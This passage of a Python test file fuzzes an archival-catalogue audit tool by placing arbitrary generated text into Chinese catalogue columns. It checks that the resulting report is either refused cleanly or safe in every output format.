    report = check_units([path], PreparedAudit(plugins(), Settings(profile=load_profile("default"), rule_timeout=None)))
    assert_every_format_is_safe(report, tmp)


CELLS = ("档号", "文号", "责任者", "题名", "日期", "密级", "页数", "备注", "年度", "保管期限")


@SLOW
@given(cells=st.lists(st.tuples(st.integers(0, 4), st.sampled_from(CELLS), HOSTILE), min_size=1, max_size=12))
def test_arbitrary_text_in_any_catalogue_cell_never_costs_a_report(tmp_path_factory, cells):
    from catalog.conftest import HEADER, clean_rows

    tmp = tmp_path_factory.mktemp("hostile-catalog")
    rows = [dict(zip(HEADER, r)) for r in clean_rows(5)]
    for index, column, text in cells:
        rows[index][column] = text
    path = tmp / "export.jsonl"  # JSON Lines: escapes carry every character, lone surrogates too
    path.write_text("".join(json.dumps(r, ensure_ascii=True) + "\n" for r in rows), encoding="utf-8")
    settings_ = CatalogOptions(as_of=dt.date(2025, 6, 30))
    try:
        report = check_catalogs([path], PreparedAudit(plugins(), Settings(profile=load_profile("default"))), settings_)
    except InputError:
        return  # refused with a message (exit 2) is fine; only an internal error is not
    assert_every_format_is_safe(report, tmp)
